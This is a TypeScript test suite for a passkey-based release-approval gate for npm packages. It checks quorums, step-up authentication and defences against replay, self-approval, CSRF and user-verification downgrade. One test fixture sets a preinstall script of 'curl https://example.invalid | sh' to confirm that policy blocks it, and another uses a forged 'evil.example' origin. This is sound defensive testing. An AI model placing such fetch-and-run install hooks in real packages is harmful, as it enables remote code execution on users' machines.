/**
 * Passkeys and approvals in real Chromium with a CDP virtual authenticator: enrolment, sign-in,
 * approval of a release staged through the real npm CLI, 2-of-N and 3-of-N quorums, and the
 * attacks: self-approval, the same approver twice, an assertion for release A replayed on B, a
 * replayed assertion, an expired challenge, user verification downgraded, CSRF, a non-approver.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTestGate, type TestGate } from './support/gate.ts';
import { enrolInBrowser, openBrowser, signInInBrowser, type BrowserPerson } from './support/browser.ts';
import { makePackage, runNpm, runNpmTty, writeNpmrc } from './support/npm.ts';
import { eventually } from './support/net.ts';

const outputDir = new URL('../test-output/', import.meta.url).pathname;

describe('passkeys and approvals (Chromium, virtual authenticator)', () => {
  let gate: TestGate;
  let clock = Date.now();
  const people: Record<string, BrowserPerson> = {};
  let npmrc: string;

  async function invite(roles: string[], groups: string[]): Promise<string> {
    const result = await people['root']!.post('/ui/api/invitations', { roles, groups });
    assert.equal(result.status, 200, JSON.stringify(result.body));
    return String(result.body['url']);
  }

  async function stage(
    name: string,
    version: string,
    extra: Record<string, unknown> = {},
    files: Record<string, string> = {},
  ): Promise<string> {
    const dir = makePackage(name, version, extra, files);
    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], {
      cwd: dir,
      userconfig: npmrc,
    });
    assert.equal(result.code, 0, result.stderr.slice(-1000));
    const [release] = await gate.app.releases.list({ package: name });
    assert.equal(release!.version, version);
    return release!.id;
  }

  async function approve(
    person: BrowserPerson,
    id: string,
  ): Promise<{ status: number; body: Record<string, unknown> }> {
    const response = await person.assertion(`/ui/api/releases/${id}/options`, { decision: 'approve' });
    return person.post(`/ui/api/releases/${id}/decide`, { response });
  }

  async function requesterVerifies(id: string): Promise<void> {
    const alice = people['alice']!;
    const response = await alice.assertion(`/ui/api/releases/${id}/request/options`);
    const result = await alice.post(`/ui/api/releases/${id}/request/verify`, { response });
    assert.equal(result.status, 200, JSON.stringify(result.body));
  }

  before(async () => {
    gate = await startTestGate({
      now: () => new Date(clock),
      policy: {
        approvers: 2,
        group: 'approvers',
        rules: [
          { packages: ['@acme/*'], approvers: 3 },
          { packages: ['no-scripts-pkg'], installScripts: 'block' },
        ],
      },
    });
    // Bootstrap: the first admin's one-time link, as `pubgate serve` prints it.
    const { token } = await gate.app.people.createEnrolment({ roles: ['admin'], createdBy: 'bootstrap' });
    people['root'] = await openBrowser('root');
    await enrolInBrowser(people['root'], `${gate.url}/ui/enroll/${token}`);
    for (const [name, roles] of [
      ['alice', ['maintainer', 'approver']],
      ['bob', ['approver']],
      ['carol', ['approver']],
      ['dave', ['approver']],
      ['eve', ['auditor']],
    ] as const) {
      const link = await invite([...roles], ['approvers']);
      people[name] = await openBrowser(name);
      await enrolInBrowser(people[name], link);
    }
    npmrc = writeNpmrc(`${gate.url}/npm/`, await gate.issueToken('alice'));
  });
  after(async () => {
    for (const person of Object.values(people)) await person.close();
    await gate?.stop();
  });

  it('enrolled everyone with passkeys only, and the enrolment link works once', async () => {
    assert.deepEqual((await gate.app.people.list()).map((p) => p.name).sort(), [
      'alice',
      'bob',
      'carol',
      'dave',
      'eve',
      'root',
    ]);
    const link = await invite(['approver'], ['approvers']);
    const mallory = await openBrowser('mallory');
    try {
      await enrolInBrowser(mallory, link);
      await mallory.page.goto(link);
      assert.match(await mallory.page.content(), /ERR_ENROL_USED/);
    } finally {
      await mallory.close();
    }
  });

  it('signs in with a passkey in a fresh session', async () => {
    const bob = people['bob']!;
    await bob.context.clearCookies();
    await bob.page.goto(`${gate.url}/ui/releases`);
    assert.match(bob.page.url(), /\/ui\/login/);
    await signInInBrowser(bob, gate.url);
    const cookies = await bob.context.cookies();
    const session = cookies.find((c) => c.name === 'pubgate_session')!;
    assert.equal(session.httpOnly, true);
    assert.equal(session.sameSite, 'Strict');
  });

  it('approves a release staged through the real npm CLI with 2 of N, after the requester steps up, and publishes it', async () => {
    const id = await stage('passkey-pkg', '1.0.0');
    const bob = people['bob']!;
    await bob.page.goto(`${gate.url}/ui/releases/${id}`);
    await bob.page.click('[data-action="approve"]');
    await bob.page.waitForSelector('#status[data-code="OK"]');
    assert.equal((await gate.app.approvals.status(id)).approvals.length, 1);
    assert.equal((await approve(people['carol']!, id)).status, 200);
    // Two approvals, but the requester has not authenticated the request: still held.
    assert.equal((await gate.app.releases.get(id)).state, 'awaiting_approval');
    await requesterVerifies(id);
    await eventually(
      async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined),
      20_000,
      'publish',
    );
    mkdirSync(outputDir, { recursive: true });
    await bob.page.goto(`${gate.url}/ui/releases/${id}`);
    await bob.page.screenshot({ path: join(outputDir, 'release-detail-published.png'), fullPage: true });
    const consumer = mkdtempSync(join(tmpdir(), 'pubgate-consumer-'));
    writeFileSync(
      join(consumer, 'package.json'),
      JSON.stringify({ name: 'c', version: '1.0.0', private: true }),
    );
    const install = await runNpm(['install', 'passkey-pkg@1.0.0', '--registry', `${gate.url}/npm/`], {
      cwd: consumer,
      userconfig: npmrc,
    });
    assert.equal(install.code, 0, install.stderr.slice(-800));
    assert.match(
      readFileSync(join(consumer, 'node_modules/passkey-pkg/index.js'), 'utf8'),
      /passkey-pkg@1\.0\.0/,
    );
  });

  it('needs 3 of N where the policy says so, and shows the evidence on the release page', async () => {
    const id = await stage('@acme/three', '1.0.0');
    await requesterVerifies(id);
    assert.equal((await approve(people['bob']!, id)).status, 200);
    assert.equal((await approve(people['carol']!, id)).status, 200);
    const page = people['dave']!.page;
    await page.goto(`${gate.url}/ui/releases/${id}`);
    assert.equal(await page.textContent('#approval-count'), '2 of 3');
    assert.match(await page.content(), /install scripts/);
    await page.screenshot({ path: join(outputDir, 'release-detail.png'), fullPage: true });
    assert.equal((await gate.app.releases.get(id)).state, 'awaiting_approval');
    assert.equal((await approve(people['dave']!, id)).status, 200);
    await eventually(
      async () => ((await gate.app.releases.get(id)).state === 'published' ? true : undefined),
      20_000,
      'publish',
    );
  });

  it('shows approvers the diff against the previous version and asks one more approver for a new install script', async () => {
    const id = await stage(
      'passkey-pkg',
      '1.1.0',
      { scripts: { postinstall: 'node setup.js' }, dependencies: { 'left-pad': '^1.3.0' } },
      { 'setup.js': 'console.log(1)\n', 'bundle.min.js': 'x'.repeat(6000) },
    );
    const release = await gate.app.releases.get(id);
    assert.equal(release.requiredApprovals, 3, 'default 2, plus one for the install script');
    const page = people['carol']!.page;
    await page.goto(`${gate.url}/ui/releases/${id}`);
    const html = await page.content();
    assert.match(html, /Compared with <strong>1\.0\.0<\/strong>/);
    assert.match(html, /postinstall added: <code>node setup\.js<\/code>/);
    assert.match(html, /left-pad/);
    assert.match(html, /package\/bundle\.min\.js/);
    assert.match(html, /package\/setup\.js/);
    await page.screenshot({ path: join(outputDir, 'release-detail-diff.png'), fullPage: true });
  });

  it('refuses a release whose install script the policy blocks (ERR_POLICY_BLOCKED), storing nothing', async () => {
    const dir = makePackage('no-scripts-pkg', '1.0.0', {
      scripts: { preinstall: 'curl https://example.invalid | sh' },
    });
    const result = await runNpm(['stage', 'publish', '--registry', `${gate.url}/npm/`], {
      cwd: dir,
      userconfig: npmrc,
    });
    assert.notEqual(result.code, 0);
    assert.match(result.stdout + result.stderr, /ERR_POLICY_BLOCKED/);
    assert.deepEqual(await gate.app.releases.list({ package: 'no-scripts-pkg' }), []);
  });

  it('completes an interactive `npm publish` (pseudo-terminal) after the requester steps up and the quorum approves', async () => {
    const dir = makePackage('interactive-pkg', '1.0.0');
    const npm = runNpmTty(['publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
    try {
      const authUrl = await eventually(
        async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1],
        60_000,
        'npm to print the authUrl',
      );
      const id = authUrl.split('/').pop()!;
      const alice = people['alice']!;
      await alice.page.goto(authUrl);
      await alice.page.waitForURL(new RegExp(`/ui/releases/${id}$`));
      await alice.page.click('[data-action="request"]');
      await alice.page.waitForSelector('#status[data-code="OK"]');
      assert.equal((await approve(people['bob']!, id)).status, 200);
      assert.equal(
        (await gate.app.releases.get(id)).state,
        'awaiting_approval',
        'one approval is not a quorum',
      );
      assert.equal((await approve(people['dave']!, id)).status, 200);
      const code = await npm.exited;
      assert.equal(code, 0, npm.output().slice(-2000));
      assert.match(npm.output(), /\+ interactive-pkg@1\.0\.0/);
      assert.equal((await gate.app.releases.get(id)).state, 'published');
    } finally {
      npm.kill();
    }
  });

  it('ends an interactive `npm publish` with a clear error when an approver rejects the release', async () => {
    const dir = makePackage('rejected-pkg', '1.0.0');
    const npm = runNpmTty(['publish', '--registry', `${gate.url}/npm/`], { cwd: dir, userconfig: npmrc });
    try {
      const authUrl = await eventually(
        async () => /(http:\/\/localhost:\d+\/npm\/-\/pubgate\/auth\/[0-9a-f-]{36})/.exec(npm.output())?.[1],
        60_000,
        'npm to print the authUrl',
      );
      const id = authUrl.split('/').pop()!;
      const carol = people['carol']!;
      const response = await carol.assertion(`/ui/api/releases/${id}/options`, { decision: 'reject' });
      const rejected = await carol.post(`/ui/api/releases/${id}/decide`, {
        response,
        reason: 'unexpected postinstall',
      });
      assert.equal(rejected.status, 200, JSON.stringify(rejected.body));
      const code = await npm.exited;
      assert.notEqual(code, 0);
      assert.match(npm.output(), /ERR_RELEASE_REJECTED/);
      assert.match(npm.output(), /rejected by carol: unexpected postinstall/);
      assert.doesNotMatch(npm.output(), /\+ rejected-pkg@1\.0\.0/);
    } finally {
      npm.kill();
    }
  });

  describe('attacks', () => {
    let a: string;
    let b: string;
    before(async () => {
      a = await stage('attack-a', '1.0.0');
      b = await stage('attack-b', '1.0.0');
    });

    it('refuses self-approval with ERR_APPROVAL_SELF', async () => {
      const result = await people['alice']!.post(`/ui/api/releases/${a}/options`, { decision: 'approve' });
      assert.equal(result.body['code'], 'ERR_APPROVAL_SELF');
      assert.equal(result.status, 403);
    });

    it('refuses a non-approver with ERR_APPROVAL_NOT_APPROVER', async () => {
      const result = await people['eve']!.post(`/ui/api/releases/${a}/options`, { decision: 'approve' });
      assert.equal(result.body['code'], 'ERR_APPROVAL_NOT_APPROVER');
    });

    it('refuses whoever the workload identity names as trigger or commit author (ERR_APPROVAL_EXCLUDED)', async () => {
      const { publishDoc, packageTarball } = await import('./support/publish-doc.ts');
      const body = Buffer.from(
        JSON.stringify(publishDoc('ci-built', '1.0.0', await packageTarball('ci-built', '1.0.0'))),
      );
      const release = await gate.app.releases.submit({
        urlName: 'ci-built',
        body,
        channel: 'stage',
        requester: { kind: 'workload', id: 'github:acme/ci-built' },
        authorize: () => {},
        excluded: ['carol'],
      });
      const result = await people['carol']!.post(`/ui/api/releases/${release.id}/options`, {
        decision: 'approve',
      });
      assert.equal(result.body['code'], 'ERR_APPROVAL_EXCLUDED');
    });

    it('lets an admin change roles only with a step-up, and the change takes effect', async () => {
      const root = people['root']!;
      const eve = (await gate.app.people.findByName('eve'))!;
      await root.page.goto(`${gate.url}/ui/people`);
      await root.page.fill(`#roles-${eve.id}`, 'auditor,approver');
      const reloaded = root.page.waitForEvent('load');
      await root.page.click(`[data-action="set-roles"][data-person="${eve.id}"]`);
      await reloaded;
      assert.deepEqual([...(await gate.app.people.get(eve.id)).roles].sort(), ['approver', 'auditor']);
      const forged = await root.post(`/ui/api/people/${eve.id}/roles/verify`, {
        response: { id: 'x', response: {} },
      });
      assert.notEqual(forged.status, 200);
      // Her sessions ended with the change; she signs in again and may now approve.
      await signInInBrowser(people['eve']!, gate.url);
      const result = await people['eve']!.post(`/ui/api/releases/${a}/options`, { decision: 'approve' });
      assert.equal(result.status, 200, JSON.stringify(result.body));
    });

    it('lets an admin add a trusted publisher and lock a package down only with step-ups bound to exactly that action', async () => {
      const root = people['root']!;
      await root.page.goto(`${gate.url}/ui/admin`);
      const publisher = {
        packages: ['@acme/ui-added'],
        provider: 'github',
        issuer: 'https://token.actions.githubusercontent.com',
        audience: 'npm:localhost',
        claims: {
          repository_id: '42',
          workflow_ref: 'acme/ui-added/.github/workflows/release.yml@refs/tags/*',
        },
      };
      await root.page.fill('#publisher', JSON.stringify(publisher));
      let reloaded = root.page.waitForEvent('load');
      await root.page.click('[data-action="add-publisher"]');
      await reloaded;
      assert.ok(
        (await gate.app.publishers.list()).some(
          (p) => p.source === 'admin' && p.publisher.packages[0] === '@acme/ui-added',
        ),
      );
      // A step-up for one payload does not authorise another.
      const stepUp = await root.assertion('/ui/api/admin/options', {
        action: 'lockdown',
        payload: { target: 'attack-b', reason: 'drill' },
      });
      const swapped = await root.post('/ui/api/admin/verify', {
        action: 'lockdown',
        payload: { target: 'all', reason: 'drill' },
        response: stepUp,
      });
      assert.equal(swapped.body['code'], 'ERR_WEBAUTHN_WRONG_USER');
      assert.equal((await gate.app.lockdown.active()).length, 0);
      const notAdmin = await people['bob']!.post('/ui/api/admin/options', {
        action: 'lockdown',
        payload: { target: 'all', reason: 'x' },
      });
      assert.equal(notAdmin.body['code'], 'ERR_AUTH_FORBIDDEN');
      await root.page.goto(`${gate.url}/ui/admin`);
      await root.page.fill('#lock-target', 'lock-me');
      await root.page.fill('#lock-reason', 'ui drill');
      reloaded = root.page.waitForEvent('load');
      await root.page.click('[data-action="lockdown"]');
      await reloaded;
      const [active] = await gate.app.lockdown.active();
      assert.deepEqual(
        [active?.target, active?.reason, active?.createdBy],
        ['lock-me', 'ui drill', 'user:root'],
      );
      reloaded = root.page.waitForEvent('load');
      await root.page.click('[data-admin-action="lift-lockdown"]');
      await reloaded;
      assert.equal((await gate.app.lockdown.active()).length, 0);
    });

    it('refuses an admin (separation of duties) with ERR_APPROVAL_ADMIN', async () => {
      const result = await people['root']!.post(`/ui/api/releases/${a}/options`, { decision: 'approve' });
      assert.equal(result.body['code'], 'ERR_APPROVAL_ADMIN');
    });

    it('counts the same approver twice once (ERR_APPROVAL_DUPLICATE)', async () => {
      assert.equal((await approve(people['bob']!, a)).status, 200);
      const again = await approve(people['bob']!, a);
      assert.equal(again.body['code'], 'ERR_APPROVAL_DUPLICATE');
      assert.equal((await gate.app.approvals.status(a)).approvals.length, 1);
    });

    it('refuses an assertion made for release A on release B (ERR_APPROVAL_WRONG_RELEASE)', async () => {
      const carol = people['carol']!;
      const forA = await carol.assertion(`/ui/api/releases/${a}/options`, { decision: 'approve' });
      const onB = await carol.post(`/ui/api/releases/${b}/decide`, { response: forA });
      assert.equal(onB.body['code'], 'ERR_APPROVAL_WRONG_RELEASE');
      assert.equal((await gate.app.approvals.status(b)).approvals.length, 0);
    });

    it("refuses another approver's genuine assertion presented in one's own session (ERR_WEBAUTHN_WRONG_USER)", async () => {
      const carol = people['carol']!;
      const dave = people['dave']!;
      // Carol's session gets the challenge; Dave's authenticator signs it (a relayed or phished assertion).
      const options = await carol.post(`/ui/api/releases/${b}/options`, { decision: 'approve' });
      assert.equal(options.status, 200);
      const daves = await dave.page.evaluate(
        async ({ optionsJSON }) => {
          // Without allowCredentials the authenticator offers its own discoverable passkey: Dave's.
          const { allowCredentials: _mine, ...anyone } = optionsJSON as Record<string, unknown>;
          const lib = (
            globalThis as unknown as {
              SimpleWebAuthnBrowser: { startAuthentication(o: { optionsJSON: unknown }): Promise<unknown> };
            }
          ).SimpleWebAuthnBrowser;
          return lib.startAuthentication({ optionsJSON: anyone });
        },
        { optionsJSON: options.body },
      );
      const result = await carol.post(`/ui/api/releases/${b}/decide`, { response: daves });
      assert.equal(result.body['code'], 'ERR_WEBAUTHN_WRONG_USER');
      assert.equal((await gate.app.approvals.status(b)).approvals.length, 0);
    });

    it('refuses a replayed assertion (ERR_WEBAUTHN_CHALLENGE_REPLAYED)', async () => {
      const dave = people['dave']!;
      const response = await dave.assertion(`/ui/api/releases/${b}/options`, { decision: 'approve' });
      assert.equal((await dave.post(`/ui/api/releases/${b}/decide`, { response })).status, 200);
      const replay = await dave.post(`/ui/api/releases/${b}/decide`, { response });
      assert.equal(replay.body['code'], 'ERR_WEBAUTHN_CHALLENGE_REPLAYED');
    });

    it('refuses an expired challenge (ERR_WEBAUTHN_CHALLENGE_EXPIRED)', async () => {
      const carol = people['carol']!;
      const response = await carol.assertion(`/ui/api/releases/${b}/options`, { decision: 'approve' });
      clock += 301_000;
      const late = await carol.post(`/ui/api/releases/${b}/decide`, { response });
      assert.equal(late.body['code'], 'ERR_WEBAUTHN_CHALLENGE_EXPIRED');
    });

    it('refuses an assertion without user verification (ERR_WEBAUTHN_UV_REQUIRED)', async () => {
      const carol = people['carol']!;
      await carol.setUserVerified(false);
      try {
        const response = await carol.assertion(
          `/ui/api/releases/${b}/options`,
          { decision: 'approve' },
          'downgrade-uv',
        );
        const result = await carol.post(`/ui/api/releases/${b}/decide`, { response });
        assert.equal(result.body['code'], 'ERR_WEBAUTHN_UV_REQUIRED');
      } finally {
        await carol.setUserVerified(true);
      }
      assert.equal((await gate.app.approvals.status(b)).approvals.length, 1);
    });

    it('refuses a state change without the CSRF token, or from another origin (ERR_CSRF)', async () => {
      const bob = people['bob']!;
      const noToken = await bob.post(
        `/ui/api/releases/${b}/options`,
        { decision: 'approve' },
        { csrf: null },
      );
      assert.equal(noToken.body['code'], 'ERR_CSRF');
      const wrong = await bob.post(
        `/ui/api/releases/${b}/options`,
        { decision: 'approve' },
        { csrf: 'forged' },
      );
      assert.equal(wrong.body['code'], 'ERR_CSRF');
      const crossSite = await fetch(`${gate.url}/ui/api/releases/${b}/options`, {
        method: 'POST',
        headers: { origin: 'https://evil.example', 'content-type': 'application/json' },
        body: '{}',
      });
      assert.equal(((await crossSite.json()) as { code: string }).code, 'ERR_CSRF');
    });

    it('never approves from a session alone: no assertion, no approval', async () => {
      const result = await people['bob']!.post(`/ui/api/releases/${b}/decide`, {
        response: { id: 'x', response: {} },
      });
      assert.equal(result.status >= 400, true);
      assert.equal((await gate.app.approvals.status(b)).approvals.length, 1);
    });

    it('keeps several passkeys per person and removes one only with a step-up, never the last', async () => {
      const dave = people['dave']!;
      await dave.page.goto(`${gate.url}/ui/account`);
      const only = (await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id))[0]!;
      const last = await dave.assertion('/ui/api/passkeys/remove/options', { id: only.id });
      const refused = await dave.post('/ui/api/passkeys/remove/verify', { id: only.id, response: last });
      assert.equal(refused.body['code'], 'ERR_PASSKEY_LAST');
      // A second authenticator (a security key next to the laptop's platform authenticator).
      await dave.cdp.send('WebAuthn.removeVirtualAuthenticator', { authenticatorId: dave.authenticatorId });
      const second = await dave.cdp.send('WebAuthn.addVirtualAuthenticator', {
        options: {
          protocol: 'ctap2',
          transport: 'usb',
          hasResidentKey: true,
          hasUserVerification: true,
          isUserVerified: true,
          automaticPresenceSimulation: true,
        },
      });
      const reloaded = dave.page.waitForEvent('load');
      await dave.page.click('[data-action="add-passkey"]');
      await reloaded;
      assert.equal(
        (await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length,
        2,
      );
      const withoutStepUp = await dave.post('/ui/api/passkeys/remove/verify', {
        id: only.id,
        response: { id: 'forged', response: {} },
      });
      assert.notEqual(withoutStepUp.status, 200);
      const stepUp = await dave.assertion('/ui/api/passkeys/remove/options', { id: only.id });
      const removed = await dave.post('/ui/api/passkeys/remove/verify', { id: only.id, response: stepUp });
      assert.equal(removed.status, 200, JSON.stringify(removed.body));
      assert.equal(
        (await gate.app.people.listPasskeys((await gate.app.people.findByName('dave'))!.id)).length,
        1,
      );
      await dave.cdp.send('WebAuthn.removeVirtualAuthenticator', { authenticatorId: second.authenticatorId });
    });

    it('rate-limits sign-in attempts (ERR_RATE_LIMITED)', async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 35; i++) {
        const r = await fetch(`${gate.url}/ui/api/login/options`, {
          method: 'POST',
          headers: { origin: new URL(gate.url).origin },
        });
        statuses.push(r.status);
        await r.body?.cancel();
      }
      assert.ok(statuses.includes(429), statuses.join(','));
    });

    it('records every approval in the audit chain with the assertion hash', async () => {
      let approvals = 0;
      for await (const e of gate.app.audit.events({ subject: `release:${a}` })) {
        if (e.action === 'release.approval') {
          approvals++;
          assert.match(String(e.data['assertionSha256']), /^[0-9a-f]{64}$/);
        }
      }
      assert.equal(approvals, 1);
      assert.equal((await gate.app.audit.verify()).ok, true);
    });
  });
});
